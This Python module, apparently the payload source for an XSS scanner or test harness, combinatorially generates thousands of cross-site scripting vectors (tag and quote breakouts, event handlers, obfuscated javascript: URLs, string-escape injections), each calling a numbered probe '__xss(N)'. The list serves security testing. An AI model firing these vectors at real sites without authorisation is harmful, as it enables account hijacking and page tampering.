"""Attacks that call ``__xss(N)``, each with a number of its own: made of parts, so that there are thousands."""

from __future__ import annotations

from itertools import product

_BREAKOUTS = (
    *("", '">', "'>", "-->", "--!>", "</title>", "</textarea>", "</script>", "</STYLE >", "</noscript>", "]]>"),
    *("\\\"'>", "`>", "</svg>", "</template>"),
)
"""What leaves the place where a value is put."""
_ELEMENTS = (
    "<script>CALL</script>",
    "<ScRiPt\n>CALL</sCrIpT\t>",
    "<img src=x: onerror=CALL>",
    "<IMG/SRC=x:/ONERROR='CALL'>",
    "<svg onload=CALL>",
    '<svg\fonload\n="CALL">',
    "<svg><script>CALL</script></svg>",
    "<svg><script>&#95;_xss(N)</script></svg>",
    "<svg><animate onbegin=CALL attributeName=x dur=1s>",
    "<svg><set onbegin=CALL attributename=x>",
    "<details open ontoggle=CALL>",
    "<audio src=x: onerror=CALL>",
    "<video><source src=x: onerror=CALL></video>",
    "<iframe srcdoc='<script>parent.CALL</script>'></iframe>",
    "<iframe src=javascript:parent.CALL></iframe>",
    "<style onload=CALL></style>",
    "<link rel=stylesheet href=data:text/css, onload=CALL>",
    "<math><mtext><img src=x: onerror=CALL>",
    "<p onclick=CALL>",
    "<input onfocus=CALL>",
    "<a href=javascript:CALL>x</a>",
    "<a href=' jav&#x09;ascript:CALL'>x</a>",
    "<a href=&#106;avascript&colon;CALL>x</a>",
    "<xss onmouseover=CALL>",
)
_SUFFIXES = ("", "<!--", "//", '"', "'", " x=")
_SCHEMES = (
    *(
        "javascript:",
        "JavaScript:",
        "jAvAsCrIpT:",
        " javascript:",
        "\x01javascript:",
        "\tjavascript:",
        "\x1f javascript:",
    ),
    *(
        "java\tscript:",
        "java\nscript:",
        "java\r\nscript:",
        "j\na\nv\na\ns\nc\nr\ni\np\nt\n:",
        "javascript\t:",
        "javascript\n:",
    ),
    *("\n\r\t javascript:", "\x0bjavascript:", "\x02javascript:"),
)
_URL_CODES = (
    *(
        "CALL",
        "//%0aCALL",
        "/*x*/CALL",
        "void(CALL)",
        "'\\u0027;CALL",
        "%5f%5fxss(N)",
        "CALL//",
        "CALL;'\"<>",
        "{CALL}",
    ),
    *("(0,CALL)", "//%0dCALL", "x=CALL", "[CALL][0]"),
)
_STRING_CODES = (
    *("'+CALL+'", '"+CALL+"', "`+CALL+`", "';CALL//", '";CALL//', "`;CALL//", "');CALL//", '");CALL//', "\\';CALL//"),
    *('\\";CALL//', "\\`;CALL//", "${CALL}", "`${CALL}`", "\nCALL\n", "\rCALL//", "\u2028CALL\u2028", "\u2029CALL//"),
    *(
        "*/CALL/*",
        "*/CALL//",
        "</script><script>CALL</script>",
        "--></script><script>CALL</script>",
        "/;CALL//",
        "]/;CALL//",
    ),
    *("CALL", "-CALL-", "(CALL)", ";CALL;", "1;CALL", "x:CALL", "&#39;;CALL//", "&quot;;CALL//", "&apos;+CALL+&apos;"),
    *(
        "\\u0027;CALL//",
        "\\x27;CALL//",
        "%27;CALL//",
        "%22;CALL//",
        "'};CALL;//",
        "'];CALL;//",
        "\\\n';CALL//",
        "',CALL,'",
    ),
    *(
        " onfocus=CALL ",
        "\tonclick=CALL\t",
        '" onclick=CALL x="',
        "' onclick=CALL x='",
        "` onclick=CALL",
        "x onclick=CALL",
    ),
    *(
        "/onclick=CALL/",
        "=x onclick=CALL",
        "onclick=CALL",
        "onclick='CALL'",
        "x\fonmouseover=CALL",
        "<!--\nCALL//",
        "-->\nCALL",
    ),
    *("0;url=javascript:CALL", "1;URL='javascript:CALL'", "x}*{background:url(javascript:CALL)", "expression(CALL)"),
    *(
        "script>CALL</script>",
        "/script><img src=x: onerror=CALL>",
        "img src=x: onerror=CALL ",
        "data:text/html,<script>parent.CALL</script>",
    ),
)


def vectors() -> list[str]:
    """All attacks, each with its number in place of N."""
    markup = map("".join, product(_BREAKOUTS, _ELEMENTS, _SUFFIXES))
    urls = map("".join, product(_SCHEMES, _URL_CODES))
    found = dict.fromkeys((*markup, *urls, *_STRING_CODES))
    return [_numbered(text, number) for number, text in enumerate(found)]


def _numbered(text: str, number: int) -> str:
    return text.replace("CALL", "__xss(N)").replace("xss(N)", f"xss({number})")
